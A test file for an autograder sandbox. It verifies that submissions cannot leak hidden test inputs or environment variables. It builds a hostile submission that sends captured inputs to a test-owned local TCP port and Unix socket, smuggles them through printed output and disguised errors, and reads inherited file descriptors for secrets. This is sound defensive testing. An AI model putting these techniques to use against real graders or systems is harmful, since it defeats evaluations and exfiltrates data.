/**
 * Hidden inputs stay hidden. A submission tries every route we know to get the hidden
 * variants' inputs, or the grader's environment, out of the sandbox: the network (a TCP
 * port and a Unix socket the test listens on), error text, printed output (also stashed
 * and printed later), and file descriptors the grader inherited. Where the sandbox has
 * its own network namespace nothing arrives; everywhere, no report shows any of it.
 */
import { spawnSync } from "node:child_process";
import { closeSync, mkdtempSync, openSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { grade, type GradeReport } from "../../autograder/src/grade.js";
import { isolation } from "../../autograder/src/isolation.js";
import { KIT_ROOT } from "../../autograder/src/paths.js";
import { suiteFile } from "../../autograder/src/target.js";
import { makeGrader, type Grader } from "./grading.js";
import { makeSubmission, removeSubmission } from "./submission.js";

const work = mkdtempSync(join(tmpdir(), "kit-leak-"));
const socketPath = join(work, "leak.sock");
const CANARY = `canary-${process.pid}-${Date.now()}`;
const received: string[] = [];
const servers: Server[] = [];
let port = 0;
let grader: Grader;
const dirs: string[] = [];

function listen(server: Server, where: { port: number; host: string } | { path: string }): Promise<void> {
  servers.push(server);
  return new Promise((resolve) => server.listen(where, () => resolve()));
}

beforeAll(async () => {
  const sink = () => createServer((socket) => socket.on("data", (d) => received.push(d.toString())));
  const tcp = sink();
  await listen(tcp, { port: 0, host: "127.0.0.1" });
  port = (tcp.address() as { port: number }).port;
  await listen(sink(), { path: socketPath });
  grader = await makeGrader("hw1");
});

afterAll(async () => {
  servers.forEach((s) => s.close());
  dirs.forEach(removeSubmission);
  rmSync(work, { recursive: true, force: true });
});

/** Shapes of linear.forward's input A on the hidden variants that no public variant has. */
function hiddenOnlyShapes(): string[] {
  const shapes = (kind: string) => new Set(grader.fixtures.filter((f) => f.caseId === "linear.forward" && f.kind === kind).map((f) => f.inputs.A.shape.join("x")));
  const pub = shapes("public");
  return [...shapes("hidden")].filter((s) => !pub.has(s));
}

/** The reference's Linear.forward, first leaking what it sees by every route (and throwing it on shapes it has not seen in public). */
function leakingSubmission(): string {
  const pub = grader.fixtures.filter((f) => f.caseId === "linear.forward" && f.kind === "public").map((f) => f.inputs.A.shape.join("x"));
  const leak = [
    "const box = globalThis as unknown as { seen?: string[] };",
    "box.seen = box.seen ?? [];",
    `box.seen.push(\`LEAK:\${A.shape.join("x")}:\${Array.from(A.toTypedArray()).slice(0, 3).join(",")}:\${process.env.KIT_LEAK_CANARY ?? "no-env"}\`);`,
    "const text = box.seen.join(String.fromCharCode(10));",
    "console.log(text);",
    `try { connect(${port}, "127.0.0.1").on("error", () => undefined).end(text); } catch { /* no network */ }`,
    `try { connect(${JSON.stringify(socketPath)}).on("error", () => undefined).end(text); } catch { /* no socket */ }`,
    // Unseen shapes throw the text, as a plain error or dressed as an untouched stub (whose message a report shows), in turn.
    `if (!${JSON.stringify(pub)}.includes(A.shape.join("x"))) throw Object.assign(new Error(text), box.seen.length % 2 ? { code: "E_NOT_IMPLEMENTED" } : {});`,
  ].join("\n    ");
  const dir = makeSubmission("hw1", [
    { file: "linear.ts", find: "  forward(A: NDArray): NDArray {", replace: `  forward(A: NDArray): NDArray {\n    ${leak}` },
    { file: "linear.ts", find: 'import { cached } from "./errors.js";', replace: 'import { cached } from "./errors.js";\nimport { connect } from "node:net";' },
    // A public failure, so that what it printed is shown (the report shows a failing public variant's printed output).
    { file: "linear.ts", find: "this.dLdb = dLdZ.sum(0);", replace: "this.dLdb = dLdZ.sum(0).mul(2);" },
  ]);
  dirs.push(dir);
  return dir;
}

function gradeLinear(dir: string): Promise<GradeReport> {
  const cases = grader.suite.cases.filter((c) => c.id.startsWith("linear."));
  return grade({
    suite: grader.suite,
    cases,
    fixtures: grader.fixtures.filter((f) => f.caseId.startsWith("linear.")),
    hwDir: dir,
    suiteFile: suiteFile("hw1"),
    device: "cpu",
    timeoutMs: 10_000,
    memoryLimitBytes: 2 ** 31,
  });
}

describe("a submission trying to leak hidden inputs and the grader's environment", () => {
  it("gets nothing out: no hidden shape or value, no environment variable in any report, nothing over the network", async () => {
    process.env.KIT_LEAK_CANARY = CANARY;
    let report: GradeReport;
    try {
      report = await gradeLinear(leakingSubmission());
    } finally {
      delete process.env.KIT_LEAK_CANARY;
    }
    await new Promise((r) => setTimeout(r, 300));
    const text = JSON.stringify(report);
    // It did run and print: the public variants show what it printed.
    expect(text).toContain("LEAK:");
    expect(text).not.toContain(CANARY);
    expect(hiddenOnlyShapes().length).toBeGreaterThan(0);
    for (const shape of hiddenOnlyShapes()) expect(text).not.toContain(`LEAK:${shape}:`);
    expect(report.isolation).toBe(isolation().description);
    if (isolation().net) expect(received).toEqual([]);
  });

  it.skipIf(!isolation().net)("reaches neither a local TCP port nor a Unix socket (network namespace)", () => {
    expect(received).toEqual([]);
  });

  it("cannot read a file descriptor the grader inherited from its own parent", () => {
    const secret = join(work, "secret.txt");
    writeFileSync(secret, CANARY);
    const reads = [4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20].map((fd) => `try { const b = Buffer.alloc(200); const n = readSync(${fd}, b, 0, 200, 0); found.push(b.toString("utf8", 0, n)); } catch { /* closed */ }`);
    const dir = makeSubmission("hw1", [
      { file: "activation.ts", find: 'import { cached } from "./errors.js";', replace: 'import { cached } from "./errors.js";\nimport { readSync } from "node:fs";' },
      { file: "activation.ts", find: "this.A = Z.tanh();", replace: `const found: string[] = [];\n    ${reads.join("\n    ")}\n    throw new Error("fds: " + found.join("|"));` },
    ]);
    dirs.push(dir);
    const fd = openSync(secret, "r");
    try {
      const run = spawnSync(join(KIT_ROOT, "node_modules/.bin/tsx"), [join(KIT_ROOT, "autograder/src/grade-cli.ts"), "hw1", "--dir", dir, "--only", "tanh.forward"], {
        cwd: KIT_ROOT,
        encoding: "utf8",
        env: { ...process.env, NO_COLOR: "1", FORCE_COLOR: "0" },
        stdio: ["ignore", "pipe", "pipe", fd, fd, fd, fd],
      });
      expect(run.status).toBe(0);
      expect(run.stdout).toContain("fds: ");
      expect(run.stdout).not.toContain(CANARY);
    } finally {
      closeSync(fd);
    }
  });
});
